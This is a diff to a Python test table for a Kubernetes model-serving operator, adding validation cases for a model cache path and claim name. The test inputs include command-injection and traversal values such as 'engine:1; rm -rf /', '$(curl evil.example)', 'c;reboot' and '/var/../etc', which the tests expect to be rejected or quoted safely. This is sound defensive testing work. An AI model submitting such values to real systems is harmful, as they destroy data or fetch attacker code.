@@ -35,7 +35,7 @@ from tidegate.operator.handlers import OperatorOptions, build_registry
 from tidegate.operator.kube import KINDS
 from tidegate.operator.labels import COMPONENT_LABEL
 from tidegate.operator.reconcile import refusal
-from tidegate.operator.render import Rendered, render
+from tidegate.operator.render import Rendered, cached_model_dir, render
 from tidegate.operator.spec import API_VERSION, KIND, SpecError
 from tidegate.operator.status import DEGRADED, MAX_MESSAGE_CHARS, compute_status
 from tidegate.operator.tuning import TuningError
@@ -188,6 +188,13 @@ TABLE = [
     row("uri-s3", source(uri="s3://bucket/m.tar"), SCHEMA, "spec.model.source.uri"),
     row("uri-huge", source(uri="https://h/" + "m" * 100_000), SCHEMA, "4096"),
     row("claim-name-shell", source(pvc={"claimName": "m;reboot"}), SCHEMA, "DNS-1123 subdomain"),
+    # spec.model.cache is writable by the pods: never the node's root, nor a path out of it.
+    row("cache-host-path-root", ("model.cache.hostPath.path", "/"), SCHEMA, "^/[^/]"),
+    row("cache-host-path-slashes", ("model.cache.hostPath.path", "//etc"), SCHEMA, "^/[^/]"),
+    row("cache-host-path-dot-dot", ("model.cache.hostPath.path", "/var/../etc"), SCHEMA, "'..'"),
+    row("cache-host-path-relative", ("model.cache.hostPath.path", "cache"), SCHEMA, "^/[^/]"),
+    row("cache-claim-shell", ("model.cache.pvc.claimName", "c;reboot"), SCHEMA, "DNS-1123"),
+    row("cache-read-only-false", ("model.cache.pvc", {"claimName": "c", "readOnly": 0}), SCHEMA),
     # -- images ----------------------------------------------------------------------------
     row("image-semicolon", ("image", "engine:1; rm -rf /"), SCHEMA, "image reference"),
     row("image-substitution", ("image", "$(curl evil.example)"), SCHEMA, "image reference"),
@@ -341,6 +348,17 @@ TABLE = [
     # subPath, not subPathExpr: $(VAR) is not expanded.
     row("pvc-path-shell", source(pvc={"claimName": "m", "path": SHELL_METACHARACTERS}), RENDERED),
     row("host-path-shell", ("model.source.hostPath.path", f"/m/{SHELL_METACHARACTERS}"), RENDERED),
+    row("cache-shell", ("model.cache.hostPath.path", f"/c/{SHELL_METACHARACTERS}"), RENDERED),
+    row(
+        "cached-uri-shell",
+        {
+            "model": {
+                "source": {"hostPath": None, "uri": f"https://h/m.tar?b={SHELL_METACHARACTERS}"},
+                "cache": {"pvc": {"claimName": "model-cache"}},
+            }
+        },
+        RENDERED,
+    ),
     row("image-by-digest", ("image", "r.example:5000/team/e@sha256:" + "a" * 64), RENDERED),
     row(
         "odd-but-valid-names",
@@ -451,6 +469,7 @@ def allowed_argvs(spec: dict[str, Any]) -> list[list[str]]:
     uri = spec["model"]["source"].get("uri")
     if uri is not None:
         argvs.append(["fetch-model", uri, "/model"])
+        argvs.append(["fetch-model", "--shared", uri, cached_model_dir(uri)])
     return argvs
 
 
@@ -476,7 +495,9 @@ def assert_configs_parse_back(rendered: Rendered, spec: dict[str, Any]) -> None:
         assert set(values) <= known, (file, set(values) - known)
         if file != "router.yaml":
             assert values["served-model-name"] == [spec["model"]["name"]]
-            assert values["model"] == "/model"
+            uri = spec["model"]["source"].get("uri")
+            fetched_once = uri is not None and "cache" in spec["model"]
+            assert values["model"] == (cached_model_dir(uri) if fetched_once else "/model")
             assert values["port"] == 8000
 
 
